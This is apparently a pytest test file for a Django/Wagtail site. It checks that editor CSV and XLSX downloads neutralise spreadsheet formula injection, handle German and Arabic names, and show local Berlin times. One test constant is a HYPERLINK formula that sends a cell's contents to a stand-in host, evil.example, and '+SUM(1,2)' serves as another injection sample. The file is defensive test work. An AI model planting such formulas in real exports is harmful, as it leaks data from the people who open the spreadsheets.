"""Every spreadsheet an editor downloads is safe to open, readable in Excel and in local
time (``hub.core.csv_export``): the registrations, the membership applications, the
"Possibly outdated initiatives" report, Wagtail's own "Site history" report — each
downloaded through the admin as an editor — and the public open-data CSV."""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.log_actions import log
from wagtail.models import PageLogEntry

from hub.demo.factories.events import RegistrationFactory
from hub.demo.factories.pages import InitiativeIndexPageFactory, InitiativePageFactory
from hub.events.models import Registration
from hub.network.models import MembershipApplication
from hub.pages.models import InitiativeFreshness
from tests.events.registration_support import (  # noqa: F401 - fixtures
    calendar_fixture,
    event_fixture,
    occurrence_fixture,
)
from tests.module_data import module_data

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Details")'
GERMAN = "Jürgen Größe-Müller"
ARABIC = "سميرة حداد"
# 11:30 UTC on a winter day is 12:30 in Berlin (TIME_ZONE), 13:30 on a summer day.
WINTER = datetime(2026, 1, 15, 11, 30, tzinfo=UTC)
SUMMER = datetime(2026, 7, 15, 11, 30, tzinfo=UTC)


def editor(*, superuser: bool = False):
    user = get_user_model().objects.create_user("redaktion", "redaktion@example.org", "pw-1")
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    user.groups.add(Group.objects.get(name="Editors"))
    user.is_superuser = superuser
    user.save()
    return user


def download(client, url: str, **params) -> tuple[bytes, list[list[str]]]:
    """The raw bytes of a CSV download and its rows as ``csv`` reads them."""
    response = client.get(url, {"export": "csv", **params})
    assert response.status_code == 200, response
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    raw = b"".join(response.streaming_content) if response.streaming else bytes(response.content)
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def assert_safe(raw: bytes, rows: list[list[str]], *, times: tuple[str, ...]) -> None:
    assert raw.startswith("\ufeff".encode()), "UTF-8 with BOM, for Excel"
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells, "a formula is neutralised"
    assert FORMULA not in cells
    assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in cells)
    assert GERMAN in cells and ARABIC in cells
    for time in times:
        assert time in cells, (time, rows)
    assert not any("+00:00" in cell for cell in cells), "no UTC times"


@pytest.mark.django_db
def test_registrations_download_safely(client, occurrence):
    for n, name in enumerate((FORMULA, GERMAN, ARABIC)):
        RegistrationFactory(
            occurrence=occurrence, email=f"p{n}@example.org", name=name, organisation="Café Welcome"
        )
    Registration.objects.update(created_at=WINTER, confirmed_at=SUMMER)
    client.force_login(editor())
    raw, rows = download(client, reverse("events_registration_modeladmin_index"))
    assert len(rows) == 1 + 3
    assert_safe(raw, rows, times=("2026-01-15 12:30", "2026-07-15 13:30"))


@pytest.mark.django_db
def test_registrations_download_as_xlsx_with_text_cells_and_local_times(client, occurrence):
    RegistrationFactory(occurrence=occurrence, email="p@example.org", name=FORMULA)
    Registration.objects.update(created_at=WINTER)
    client.force_login(editor())
    response = client.get(reverse("events_registration_modeladmin_index"), {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header, row = list(sheet.iter_rows(min_row=1, max_row=2))
    columns = [cell.value for cell in header]
    name = row[columns.index("Name")]
    # A typed string cell: shown as text, never calculated (no apostrophe needed).
    assert name.value == FORMULA and name.data_type == "s"
    times = [cell.value for cell in row if isinstance(cell.value, datetime)]
    assert datetime(2026, 1, 15, 12, 30) in times, "local time …"
    assert datetime(2026, 1, 15, 11, 30) not in times, "… not UTC"


@pytest.mark.django_db
def test_membership_applications_download_safely(client, tree):
    for n, name in enumerate((FORMULA, GERMAN, ARABIC)):
        MembershipApplication.objects.create(
            organisation_name=name,
            kind="association",
            summary="Wir helfen.",
            contact_name="+SUM(1,2)",
            email=f"a{n}@example.org",
            phone="+49 30 1234567",
            language="de",
            created_at=SUMMER,
        )
    client.force_login(editor())
    raw, rows = download(client, reverse("network_membershipapplication_modeladmin_index"))
    assert len(rows) == 1 + 3
    assert_safe(raw, rows, times=("2026-07-15 13:30",))
    cells = [cell for row in rows for cell in row]
    assert "'+SUM(1,2)" in cells
    assert "+49 30 1234567" in cells, "a phone number is data, not a formula"


@module_data
def index(tree):
    return InitiativeIndexPageFactory(parent=tree.homes["de"])


@pytest.mark.django_db
def test_outdated_initiatives_report_downloads_safely(client, index):
    for title in (FORMULA, GERMAN, ARABIC):
        page = InitiativePageFactory(
            parent=index, title=title, slug=f"i-{len(title)}", contact_email="kontakt@example.org"
        )
        InitiativeFreshness.objects.create(
            translation_key=page.translation_key,
            last_confirmed_at=WINTER.replace(year=2024),
            reminder_sent_at=WINTER.replace(year=2025),
        )
    client.force_login(editor(superuser=True))
    raw, rows = download(client, "/admin/reports/outdated-initiatives/")
    assert len(rows) == 1 + 3
    assert_safe(raw, rows, times=("2024-01-15 12:30", "2025-01-15 12:30"))


@pytest.mark.django_db
def test_wagtails_site_history_report_downloads_safely(client, index):
    user = editor(superuser=True)
    for title in (FORMULA, GERMAN, ARABIC):
        page = InitiativePageFactory(parent=index, title=title, slug=f"h-{len(title)}")
        log(page, "wagtail.edit", user=user)
    PageLogEntry.objects.update(timestamp=SUMMER)
    client.force_login(user)
    raw, rows = download(client, reverse("wagtailadmin_reports:site_history"))
    assert_safe(raw, rows, times=("2026-07-15 13:30",))
